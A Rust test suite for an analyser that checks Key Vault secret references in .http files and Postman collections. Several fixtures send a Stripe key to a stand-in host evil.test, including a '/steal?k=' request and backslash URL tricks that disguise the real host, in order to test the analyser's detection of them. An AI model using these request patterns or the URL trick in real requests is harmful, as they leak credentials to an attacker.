//! Every finding of the offline analysis, with its exact range and severity.
//!
//! Fixtures are `//- /path` blocks: `vaultlink.json`, environment files, and the document
//! under test (the first other file). Each finding renders as
//! `code severity line:col "covered text": message`.

use expect_test::{Expect, expect};

use crate::syntax::env::{self, EnvFile};
use crate::text::{Encoding, LineIndex};
use crate::vault::analysis::{Context, EnvSource};
use crate::vault::document::{DocKind, Parsed};
use crate::vault::links;

fn files(fixture: &str) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for line in fixture.split_inclusive('\n') {
        if let Some(path) = line.strip_prefix("//- ") {
            out.push((
                path.trim().trim_start_matches('/').to_string(),
                String::new(),
            ));
        } else if let Some((_, text)) = out.last_mut() {
            text.push_str(line);
        }
    }
    out
}

fn check_env(fixture: &str, env_name: Option<&str>, expect: Expect) {
    let files = files(fixture);
    let links = files
        .iter()
        .find(|(p, _)| p == "vaultlink.json")
        .map(|(_, t)| links::parse(t));
    let envs: Vec<(&str, EnvFile)> = files
        .iter()
        .filter_map(|(p, t)| env::parse_path(p, t).map(|e| (t.as_str(), e)))
        .collect();
    let sources: Vec<EnvSource<'_>> = envs
        .iter()
        .map(|(t, f)| EnvSource { text: t, file: f })
        .collect();
    let (path, text) = files
        .iter()
        .find(|(p, t)| p != "vaultlink.json" && env::parse_path(p, t).is_none())
        .or_else(|| files.iter().find(|(p, _)| p != "vaultlink.json"))
        .or_else(|| files.first())
        .expect("a document");
    let kind = DocKind::detect(path, text).expect("a known kind of file");
    let ctx = Context {
        links: links.as_ref(),
        envs: &sources,
        env_name,
    };
    let findings = Parsed::parse(kind, text).analyze(text, &ctx);
    let index = LineIndex::new(text);
    let rendered: Vec<String> = findings
        .iter()
        .map(|f| {
            let lc = index.line_col(text, f.range.start, Encoding::Chars);
            format!(
                "{} {} {}:{} {:?}: {}",
                f.code.as_str(),
                f.severity.as_str(),
                lc.line + 1,
                lc.col + 1,
                f.range.slice(text),
                f.message
            )
        })
        .collect();
    expect.assert_eq(&rendered.join("\n"));
}

fn check(fixture: &str, expect: Expect) {
    check_env(fixture, None, expect);
}

const LINKS: &str = r#"//- /vaultlink.json
{
  "secrets": {
    "stripe-key": { "link": "https://corp-kv.vault.azure.net/secrets/stripe-key", "allowedDomains": ["api.stripe.com", "*.stripe.net"] },
    "db-password": { "link": "https://corp-kv.vault.azure.net/secrets/db-password/4387e9f3d6e14c459867679a90fd0f79" },
    "broken": { "link": "https://corp-kv.vault.azure.net/keys/broken" },
    "evil": { "link": "https://evil.example.com/secrets/x" }
  }
}
"#;

#[test]
fn unlinked_and_linked_references_in_http() {
    check(
        &format!(
            "{LINKS}//- /a.http
GET https://api.stripe.com/v1/charges
Authorization: Bearer {{{{vault:stripe-key}}}}
X-Other: {{{{vault:missing}}}}
"
        ),
        expect![[
            r#"unlinked-secret warning 3:10 "{{vault:missing}}": `missing` is not linked: add it to vaultlink.json with `vaultlink link missing <identifier>`"#
        ]],
    );
}

#[test]
fn without_a_links_file_everything_is_unlinked() {
    check(
        "//- /a.http\nGET https://x.test\nA: {{vault:k}}\n",
        expect![[
            r#"unlinked-secret warning 2:4 "{{vault:k}}": `k` is not linked: no vaultlink.json was found; create one with `vaultlink link k <identifier>`"#
        ]],
    );
}

#[test]
fn invalid_references() {
    check(
        "//- /a.http\nGET https://x.test/{{vault:}}\nA: {{vault:bad name}}\nB: {{vault:open\n",
        expect![[r#"
            invalid-reference error 1:20 "{{vault:}}": the vault reference has no name: write `{{vault:NAME}}`
            invalid-reference error 2:4 "{{vault:bad name}}": a vault reference name takes only letters, digits, `_`, `-` and `.`
            invalid-reference error 3:4 "{{vault:open": unterminated vault reference: close it with `}}`"#]],
    );
}

#[test]
fn invalid_link_and_untrusted_host_at_each_reference() {
    check(
        &format!(
            "{LINKS}//- /a.http\nGET https://x.test\nA: {{{{vault:broken}}}}\nB: {{{{vault:evil}}}}\n"
        ),
        expect![[r#"
            invalid-link error 2:4 "{{vault:broken}}": the link for `broken` in vaultlink.json is not usable: the link must point to a secret (`/secrets/<name>`), not `/keys`; expected https://<vault>.vault.azure.net/secrets/<name>[/<version>]
            untrusted-host error 3:4 "{{vault:evil}}": the link for `evil` in vaultlink.json is not usable: `evil.example.com` is not a Key Vault host"#]],
    );
}

#[test]
fn invalid_link_and_untrusted_host_in_the_links_file() {
    let files = files(LINKS);
    let parsed = links::parse(&files[0].1);
    let findings = Parsed::Links(parsed).analyze(&files[0].1, &Context::default());
    let rendered: Vec<String> = findings
        .iter()
        .map(|f| {
            format!(
                "{} {} {:?}",
                f.code.as_str(),
                f.severity.as_str(),
                f.range.slice(&files[0].1)
            )
        })
        .collect();
    expect![[r#"
        invalid-link error "\"https://corp-kv.vault.azure.net/keys/broken\""
        untrusted-host error "\"https://evil.example.com/secrets/x\"""#]]
    .assert_eq(&rendered.join("\n"));
}

#[test]
fn domain_not_allowed_when_the_host_is_known() {
    check(
        &format!(
            "{LINKS}//- /a.http
@host = https://evil.test

### direct
GET https://api.stripe.com/ok
A: {{{{vault:stripe-key}}}}

### through a file variable
GET {{{{host}}}}/steal?k={{{{vault:stripe-key}}}}

### subdomain allowed
GET https://eu.stripe.net:8443/x
A: {{{{vault:stripe-key}}}}

### unknown host: not checked
GET {{{{unknownHost}}}}/x
A: {{{{vault:stripe-key}}}}
"
        ),
        expect![[r#"
            domain-not-allowed error 8:22 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
            undefined-variable warning 15:5 "{{unknownHost}}": `unknownHost` is not defined in this file or an environment"#]],
    );
}

#[test]
fn domain_not_allowed_through_a_variable_holding_a_secret() {
    check(
        &format!(
            "{LINKS}//- /a.http
@token = {{{{vault:stripe-key}}}}
GET https://evil.test/x
Authorization: Bearer {{{{token}}}}
"
        ),
        expect![[
            r#"domain-not-allowed error 3:23 "{{token}}": `stripe-key` (through `{{token}}`) may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net"#
        ]],
    );
}

#[test]
fn undefined_variables_and_what_defines_them() {
    check(
        r#"//- /http-client.env.json
{"dev": {"host": "https://dev.test"}, "$shared": {"v": "1"}}
//- /a.http
@local = x
### first
# @name login
# @prompt otp
GET {{host}}/login?v={{v}}&l={{local}}&otp={{otp}}&id={{$uuid}}&r={{$randomInt 1 9}}

> {% client.global.set("token", response.body.token); %}

### second
GET {{host}}/me?t={{token}}&u={{login.response.body.id}}&x={{missing}}&e={{ a + b }}
"#,
        expect![[
            r#"undefined-variable warning 10:60 "{{missing}}": `missing` is not defined in this file or an environment"#
        ]],
    );
}

#[test]
fn the_chosen_environment_decides_what_is_defined() {
    let fixture = r#"//- /http-client.env.json
{"dev": {"host": "https://dev.test", "only": "d"}, "prod": {"host": "https://prod.test"}}
//- /a.http
GET {{host}}/{{only}}
"#;
    check_env(fixture, Some("dev"), expect![""]);
    check_env(
        fixture,
        Some("prod"),
        expect![[
            r#"undefined-variable warning 1:14 "{{only}}": `only` is not defined in this file or the environment `prod`"#
        ]],
    );
}

#[test]
fn references_after_non_ascii_text_have_exact_ranges() {
    check(
        "//- /a.http\nPOST https://x.test\n\n{\"name\": \"Café 中文 😀\", \"k\": \"{{vault:k}}\"}\n",
        expect![[
            r#"unlinked-secret warning 3:29 "{{vault:k}}": `k` is not linked: no vaultlink.json was found; create one with `vaultlink link k <identifier>`"#
        ]],
    );
}

const COLLECTION_HEAD: &str = r#"{"info": {"name": "c", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"#;

#[test]
fn collection_references_map_through_json_escapes() {
    let fixture = format!(
        r#"{LINKS}//- /c.postman_collection.json
{COLLECTION_HEAD}
 "item": [{{"name": "r", "request": {{"method": "POST", "url": "https://api.stripe.com/x",
   "header": [{{"key": "A", "value": "caf\u00e9 \"q\" {{{{vault:stripe-key}}}} {{{{vault:nope}}}}"}}],
   "body": {{"mode": "raw", "raw": "{{\"s\": \"{{{{vault:db-password}}}}\", \"u\": \"{{{{undefinedVar}}}}\"}}"}}}}}}]
}}
"#
    );
    check(
        &fixture,
        expect![[r#"
            unlinked-secret warning 3:75 "{{vault:nope}}": `nope` is not linked: add it to vaultlink.json with `vaultlink link nope <identifier>`
            undefined-variable warning 4:80 "{{undefinedVar}}": `undefinedVar` is not defined in the collection, its scripts or an environment beside it"#]],
    );
}

#[test]
fn collection_domains_use_collection_variables() {
    let fixture = format!(
        r#"{LINKS}//- /c.postman_collection.json
{COLLECTION_HEAD}
 "item": [{{"name": "F", "item": [{{"name": "r", "request": {{"url": {{"raw": "{{{{base}}}}/x"}},
   "auth": {{"type": "bearer", "bearer": [{{"key": "token", "value": "{{{{vault:stripe-key}}}}"}}]}}}}}}]}}],
 "variable": [{{"key": "base", "value": "https://evil.test"}}]
}}
"#
    );
    check(
        &fixture,
        expect![[
            r#"domain-not-allowed error 3:69 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net"#
        ]],
    );
}

#[test]
fn scripts_access_and_writes() {
    let script = r#""const a = await pm.vault.get(\"stripe-key\");", "pm.vault.set(\"db-password\", 1); pm.vault.unset('free'); pm.vault.get('')", "pm.environment.set(\"later\", 1);""#;
    let fixture = format!(
        r#"{LINKS}//- /c.postman_collection.json
{COLLECTION_HEAD}
 "event": [{{"listen": "prerequest", "script": {{"exec": [{script}]}}}}],
 "item": [{{"name": "r", "request": {{"url": "https://api.stripe.com/{{{{later}}}}"}}}}]
}}
"#
    );
    check(
        &fixture,
        expect![[r#"
            script-access-disabled warning 2:89 "stripe-key": scripts may not use vault secrets: `pm.vault.get("stripe-key")` fails unless vaultlink.json sets `"scripts": {"allowVaultAccess": true}`
            script-access-disabled warning 2:122 "db-password": scripts may not use vault secrets: `pm.vault.set("db-password")` fails unless vaultlink.json sets `"scripts": {"allowVaultAccess": true}`
            linked-secret-write error 2:122 "db-password": `db-password` is linked to Key Vault, and a linked secret cannot be changed from a script: `pm.vault.set` on it fails
            script-access-disabled warning 2:157 "free": scripts may not use vault secrets: `pm.vault.unset("free")` fails unless vaultlink.json sets `"scripts": {"allowVaultAccess": true}`
            invalid-reference error 2:179 "": the vault reference has no name: write `{{vault:NAME}}`"#]],
    );
    // Allowed: no access warnings; the write to a linked secret is still an error.
    let allowed = fixture.replace(
        "\n  }\n}\n//- /c",
        "\n  },\n  \"scripts\": {\"allowVaultAccess\": true}\n}\n//- /c",
    );
    check(
        &allowed,
        expect![[r#"
            linked-secret-write error 2:122 "db-password": `db-password` is linked to Key Vault, and a linked secret cannot be changed from a script: `pm.vault.set` on it fails
            invalid-reference error 2:179 "": the vault reference has no name: write `{{vault:NAME}}`"#]],
    );
}

#[test]
fn environment_files_and_visual_studio_key_vault_entries() {
    check(
        &format!(
            r#"{LINKS}//- /http-client.env.json
{{
  "dev": {{
    "token": "{{{{vault:stripe-key}}}} {{{{vault:unknown}}}}",
    "kv": {{"provider": "AzureKeyVault", "secretName": "bad_name", "resourceId": "/subscriptions/x/providers/Microsoft.KeyVault/vaults/ok-vault"}},
    "kv2": {{"provider": "AzureKeyVault", "secretName": "fine", "resourceId": "/subscriptions/x/vaults/a"}}
  }}
}}
"#
        ),
        expect![[r#"
            unlinked-secret warning 3:36 "{{vault:unknown}}": `unknown` is not linked: add it to vaultlink.json with `vaultlink link unknown <identifier>`
            invalid-link error 4:55 "\"bad_name\"": a Key Vault secret name takes 1–127 letters, digits and `-`
            invalid-link error 5:78 "\"/subscriptions/x/vaults/a\"": `resourceId` must end in `/providers/Microsoft.KeyVault/vaults/<vault>` with a valid vault name (3–24 letters, digits and `-`)"#]],
    );
}

#[test]
fn syntax_errors_are_findings() {
    check(
        "//- /c.postman_collection.json\n{\"info\": {\"schema\": \"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\"}, \"item\": [1,}\n",
        expect![[r#"
            syntax-error error 1:103 "1": each `item` entry should be an object, not a number
            syntax-error error 1:105 "}": expected `]` to close the array before `}`"#]],
    );
}

/// A variable whose value uses itself many times: the analysis looks into each variable
/// once, instead of once per use at every depth.
#[test]
fn variables_that_repeat_themselves_are_analysed_at_once() {
    crate::syntax::finishes(|| {
        check(
            "//- /a.http\n@host = {{host}}{{host}}{{host}}{{host}}{{host}}{{host}}{{host}}{{host}}{{host}}{{host}}{{vault:k}}\nGET https://{{host}}/x\n",
            expect![[
                r#"unlinked-secret warning 1:89 "{{vault:k}}": `k` is not linked: no vaultlink.json was found; create one with `vaultlink link k <identifier>`"#
            ]],
        )
    });
}

/// A stray closing bracket, as typed in the middle of an edit, in every kind of JSON file:
/// the analysis ends at once with a syntax error at the bracket.
#[test]
fn stray_closing_brackets_in_every_json_file() {
    let check = |fixture: &'static str, expect: Expect| {
        crate::syntax::finishes(move || check(fixture, expect));
    };
    check(
        "//- /x.postman_collection.json\n{\"a\":1]}",
        expect![[r#"syntax-error error 1:7 "]": unexpected `]`: no array is open here"#]],
    );
    check(
        "//- /c.postman_collection.json\n{\"info\": {\"schema\": \"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\"},\n \"item\": [{\"name\": \"r\", \"request\": {\"url\": \"https://x.test/{{vault:k}}\"]}}]}\n",
        expect![[r#"
            unlinked-secret warning 2:60 "{{vault:k}}": `k` is not linked: no vaultlink.json was found; create one with `vaultlink link k <identifier>`
            syntax-error error 2:72 "]": expected `}` to close the object before `]`
            syntax-error error 2:74 "}": unexpected text after the end of the JSON value"#]],
    );
    check(
        "//- /x.postman_environment.json\n{\"name\": \"dev\", \"values\": [\n  {\"key\": \"a\", \"value\": \"x\"]}\n]}",
        expect![[r#"
            syntax-error error 2:28 "]": expected `}` to close the object before `]`
            syntax-error error 3:1 "]": unexpected text after the end of the JSON value"#]],
    );
    check(
        "//- /http-client.env.json\n{\"dev\": {\n  \"host\": \"x.test\"]\n}}",
        expect![[r#"syntax-error error 2:19 "]": unexpected `]`: no array is open here"#]],
    );
    check(
        "//- /http-client.private.env.json\n{\"dev\": {\"token\": [\"x\"}}\n",
        expect![[r#"syntax-error error 1:23 "}": expected `]` to close the array before `}`"#]],
    );
    check(
        "//- /vaultlink.json\n{\"secrets\":{\"a\":{\"link\":\"x\"]}}",
        expect![[r#"
            invalid-link error 1:25 "\"x\"": the link of `a` is not a Key Vault secret identifier: the link is not a URL; expected https://<vault>.vault.azure.net/secrets/<name>[/<version>]
            syntax-error error 1:28 "]": unexpected `]`: no array is open here
            syntax-error error 1:31 "": unterminated object: expected `}`"#]],
    );
    check(
        "//- /vaultlink.json\n{\n  \"secrets\": {\n    \"a\": {\"link\": \"https://corp-kv.vault.azure.net/secrets/a\"]\n  }\n}\n",
        expect![[r#"
            syntax-error error 3:62 "]": unexpected `]`: no array is open here
            syntax-error error 6:1 "": unterminated object: expected `}`"#]],
    );
}

/// Byte ranges and UTF-16 columns, as the language server will use them, for references
/// after multi-byte text and after JSON escapes.
#[test]
fn byte_ranges_and_utf16_columns() {
    let text = "GET https://x.test/é中😀\nA: é中😀{{vault:k}}\n";
    let Parsed::Http(file) = Parsed::parse(DocKind::Http, text) else {
        unreachable!()
    };
    let names = super::FileScope::http(text, &file);
    let findings = crate::vault::analysis::analyze_http(text, &file, &Context::default(), &names);
    let f = &findings[0];
    let start = text.find("{{").unwrap();
    assert_eq!(f.range.as_usize(), start..start + "{{vault:k}}".len());
    let index = LineIndex::new(text);
    let lc = index.line_col(text, f.range.start, Encoding::Utf16);
    assert_eq!((lc.line, lc.col), (1, 3 + 1 + 1 + 2)); // `A: ` + é + 中 + 😀 (a surrogate pair)
    assert_eq!(
        index.line_col(text, f.range.start, Encoding::Utf8).col,
        3 + 2 + 3 + 4
    );

    let src = r#"{"info": {"schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"}, "item": [{"name": "r", "request": {"url": "https://x.test", "header": [{"key": "k", "value": "\ud83d\ude00\u00e9\"{{vault:k}}"}]}}]}"#;
    let Parsed::Collection(coll) = Parsed::parse(DocKind::Collection, src) else {
        unreachable!()
    };
    let names = super::FileScope::collection(src, &coll);
    let findings =
        crate::vault::analysis::analyze_collection(src, &coll, &Context::default(), &names);
    let start = src.find("{{vault:k}}").unwrap();
    assert_eq!(findings[0].range.as_usize(), start..start + 11);
    assert_eq!(&src[findings[0].range.as_usize()], "{{vault:k}}");
}

#[test]
fn references_in_header_names_are_whole() {
    check(
        "//- /a.http\nGET https://x.test\nX-{{vault:k}}: v\n{{name}}: {{vault:j}}\n",
        expect![[r#"
            unlinked-secret warning 2:3 "{{vault:k}}": `k` is not linked: no vaultlink.json was found; create one with `vaultlink link k <identifier>`
            undefined-variable warning 3:1 "{{name}}": `name` is not defined in this file or an environment
            unlinked-secret warning 3:11 "{{vault:j}}": `j` is not linked: no vaultlink.json was found; create one with `vaultlink link j <identifier>`"#]],
    );
}

#[test]
fn dialect_missing_separators_are_hints() {
    check(
        "//- /a.http\n# @name a\nPOST https://x.test/a\n{\"a\": 1}\n\n# @name b\nGET https://x.test/b\n",
        expect![[r#"
            missing-separator hint 3:1 "{\"a\": 1}": the body starts without a blank line: httpyac reads a body, JetBrains' format a header; insert a blank line for every editor
            missing-separator hint 6:1 "GET https://x.test/b": a new request starts here without a `###` line: httpyac and kulala read two requests, JetBrains' format one; insert `###` for every editor"#]],
    );
}

#[test]
fn dialect_variables_defined_by_scripts_and_metadata() {
    check(
        r#"//- /a.http
{{
  exports.fromBlock = 1;
  $global.fromGlobal = 2;
  module.exports.notThis = 3;
}}
< {%
  request.variables.set("fromPre", "1");
  client.global.set("fromPreGlobal", "2");
%}
# @loop for item of items
# @env-json-key fromKulala $.token
# @file-to-variable fromFile ./body.json
GET https://x.test/{{fromBlock}}/{{fromGlobal}}/{{fromPre}}/{{fromPreGlobal}}/{{item.id}}/{{fromKulala}}/{{fromFile}}
X-Nope: {{notThis}} {{trulyUndefined}}

{{@response
  exports.fromResponse = response.parsedBody.id;
}}

###
# @loop for (const row of rows)
GET https://x.test/{{fromResponse}}/{{row}}/{{rows}}
"#,
        expect![[r#"
            undefined-variable warning 14:9 "{{notThis}}": `notThis` is not defined in this file or an environment
            undefined-variable warning 14:21 "{{trulyUndefined}}": `trulyUndefined` is not defined in this file or an environment
            undefined-variable warning 22:45 "{{rows}}": `rows` is not defined in this file or an environment"#]],
    );
}

#[test]
fn dialect_javascript_expressions_are_not_variable_names() {
    check(
        "//- /a.http\nGET https://x.test/?a={{false}}&b={{true}}&c={{42}}&d={{process.env.HOME}}&e={{response.parsedBody.x}}&f={{ Date.now() }}&g={{null}}&h={{nope}}\n",
        expect![[
            r#"undefined-variable warning 1:136 "{{nope}}": `nope` is not defined in this file or an environment"#
        ]],
    );
}

#[test]
fn empty_and_unterminated_variables_are_malformed() {
    check(
        "//- /a.http\n@v = 1\nGET https://x.test/{{}}/{{ }}/{{v\nX-A: {{v}} {{ v\nX-B: {{ not a name\n",
        expect![[r#"
            invalid-reference error 2:20 "{{}}": empty `{{}}`: write a variable name between the braces
            invalid-reference error 2:25 "{{ }}": empty `{{}}`: write a variable name between the braces
            invalid-reference error 2:31 "{{v": unterminated `{{`: close the variable with `}}`
            invalid-reference error 3:12 "{{ v": unterminated `{{`: close the variable with `}}`
            invalid-reference error 4:6 "{{ not a name": unterminated `{{`: close the variable with `}}`"#]],
    );
}

#[test]
fn dialect_legacy_postman_setters_define_variables() {
    check(
        r#"//- /c.postman_collection.json
{
  "info": {"name": "c", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
  "item": [
    {"name": "a", "event": [{"listen": "test", "script": {"exec": ["postman.setEnvironmentVariable(\"envVar\", 1);", "postman.setGlobalVariable('globalVar', 2);"]}}],
     "request": {"method": "GET", "url": {"raw": "https://x.test/{{envVar}}/{{globalVar}}/{{missing}}"}}}
  ]
}
"#,
        expect![[
            r#"undefined-variable warning 5:91 "{{missing}}": `missing` is not defined in the collection, its scripts or an environment beside it"#
        ]],
    );
}

#[test]
fn a_setter_spelt_with_unicode_escapes_still_defines_its_variable() {
    // `\u0073et` is `set`, and `\u0070ostman` `postman`: the line must be decoded to be read.
    check(
        r#"//- /c.postman_collection.json
{
  "info": {"name": "c", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
  "item": [
    {"name": "a", "event": [{"listen": "test", "script": {"exec": ["pm.environment.\u0073et(\"escaped\", 1);", "\u0070ostman.\u0073etGlobalVariable('legacy', 2); pm.globals.se(\"no\", 3);"]}}],
     "request": {"method": "GET", "url": {"raw": "https://x.test/{{escaped}}/{{legacy}}/{{no}}"}}}
  ]
}
"#,
        expect![[
            r#"undefined-variable warning 5:89 "{{no}}": `no` is not defined in the collection, its scripts or an environment beside it"#
        ]],
    );
}

#[test]
fn dialect_httpyac_request_names_refs_and_loops() {
    check(
        "//- /a.http\n# @import ./other.http\n# @ref fromOther\n# @loop for 3\n# @name looped\nGET https://x.test/{{fromOther.id}}/{{$index}}\n\n###\n# @forceRef alsoOther\nGET https://x.test/{{looped2.args.x}}/{{loopedResponse.headers.server}}/{{alsoOther}}/{{other2}}/{{nopeResponse}}\n",
        expect![[r#"
            undefined-variable warning 9:87 "{{other2}}": `other2` is not defined in this file or an environment
            undefined-variable warning 9:98 "{{nopeResponse}}": `nopeResponse` is not defined in this file or an environment"#]],
    );
}

#[test]
fn a_url_read_otherwise_than_it_is_sent_is_an_error_and_its_real_host_is_checked() {
    let fixture = format!(
        r#"{LINKS}//- /a.http
@h = http://evil.test:8082\@api.stripe.com
@plain = https://api.stripe.com

### direct
GET http://evil.test:8082\@api.stripe.com/bs
A: {{{{vault:stripe-key}}}}

### no slashes after the scheme
GET http:\\evil.test\@api.stripe.com/
A: {{{{vault:stripe-key}}}}

### through a file variable
GET {{{{h}}}}/bs
A: {{{{vault:stripe-key}}}}

### through an environment
GET {{{{envHost}}}}/bs
A: {{{{vault:stripe-key}}}}

### a backslash in the path is only a path
GET {{{{plain}}}}/a\b
A: {{{{vault:stripe-key}}}}
//- /http-client.env.json
{{"dev": {{"envHost": "https://evil.test\\@api.stripe.com"}}}}
"#
    );
    check(
        &fixture,
        expect![[r#"
        syntax-error error 5:5 "http://evil.test:8082\\@api.stripe.com/bs": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
        domain-not-allowed error 6:4 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
        syntax-error error 9:5 "http:\\\\evil.test\\@api.stripe.com/": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
        domain-not-allowed error 10:4 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
        syntax-error error 13:5 "{{h}}/bs": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
        domain-not-allowed error 14:4 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
        syntax-error error 17:5 "{{envHost}}/bs": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
        domain-not-allowed error 18:4 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net"#]],
    );
}

#[test]
fn collection_urls_raw_and_objects_are_read_as_they_are_sent() {
    let fixture = format!(
        r#"{LINKS}//- /c.postman_collection.json
{COLLECTION_HEAD}
 "item": [
  {{"name": "raw", "request": {{"url": {{"raw": "http://evil.test:8082\\@api.stripe.com/bs"}},
   "header": [{{"key": "A", "value": "{{{{vault:stripe-key}}}}"}}]}}}},
  {{"name": "object", "request": {{"url": {{"protocol": "http", "host": ["evil", "test:8082\\@api", "stripe", "com"], "path": ["bs"]}},
   "header": [{{"key": "A", "value": "{{{{vault:stripe-key}}}}"}}]}}}}
 ]
}}
"#
    );
    check(
        &fixture,
        expect![[r#"
        syntax-error error 3:46 "\"http://evil.test:8082\\\\@api.stripe.com/bs\"": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
        domain-not-allowed error 4:38 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
        syntax-error error 5:41 "{\"protocol\": \"http\", \"host\": [\"evil\", \"test:8082\\\\@api\", \"stripe\", \"com\"], \"path\": [\"bs\"]}": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
        domain-not-allowed error 6:38 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net"#]],
    );
}

/// `found` in the order of their ranges, as documents keep them.
fn sorted(
    mut found: Vec<crate::vault::diagnostic::Finding>,
) -> Vec<crate::vault::diagnostic::Finding> {
    found.sort_by_key(|f| (f.range.start, f.range.end));
    found
}

/// An `.http` file analysed in two halves side by side gives the findings of the whole, on
/// random texts and random edits of them, cut at each of their `###` lines in turn.
#[test]
fn an_http_file_analysed_in_halves_gives_the_findings_of_the_whole() {
    use crate::syntax::http;
    use crate::vault::incremental::tests::{edits_and_seed, for_each_edited_text, in_test_context};
    in_test_context(|ctx| {
        let edits = edits_and_seed().0;
        let mut cuts = 0;
        for_each_edited_text(edits / 20, |text| {
            let file = http::parse(text);
            let names = super::FileScope::http(text, &file);
            let whole = sorted(super::analyze_http_part(
                text,
                super::HttpPart::whole(&file),
                ctx,
                &names,
            ));
            let mut near = 0;
            while let Some(cut) = http::independent_cut(text, near) {
                cuts += 1;
                assert_eq!(
                    sorted(super::analyze_http_in_halves(text, &file, ctx, &names, cut)),
                    whole,
                    "the findings of {text:?} cut at {cut}"
                );
                near = cut + 1;
            }
        });
        assert!(cuts > edits / 40, "only {cuts} cuts");
    })
}

/// A collection analysed in two parts side by side (its own variables, auth and scripts with
/// its first items, and the other items) gives the findings of the whole, on random
/// collections and random edits of them (JSON with errors among them), cut after each item.
#[test]
fn a_collection_analysed_in_halves_gives_the_findings_of_the_whole() {
    use crate::vault::incremental::tests::{
        edits_and_seed, for_each_edited_collection, in_test_context,
    };
    in_test_context(|ctx| {
        let edits = edits_and_seed().0;
        let (mut cuts, mut with_errors) = (0, 0);
        for_each_edited_collection(edits / 40, |text| {
            let Parsed::Collection(coll) = Parsed::parse(DocKind::Collection, text) else {
                unreachable!()
            };
            let names = super::FileScope::collection(text, &coll);
            let whole = sorted(super::analyze_collection_part(
                text,
                &coll,
                super::CollectionPart::Whole,
                ctx,
                &names,
            ));
            with_errors += usize::from(!coll.errors.is_empty() && coll.items.len() > 1);
            for n in 1..coll.items.len() {
                cuts += 1;
                assert_eq!(
                    sorted(super::analyze_collection_in_halves(
                        text, &coll, ctx, &names, n
                    )),
                    whole,
                    "the findings of {text:?} cut after item {n}"
                );
            }
        });
        assert!(
            cuts > edits / 40 && with_errors > edits / 400,
            "{cuts} cuts, {with_errors} collections with errors"
        );
    })
}
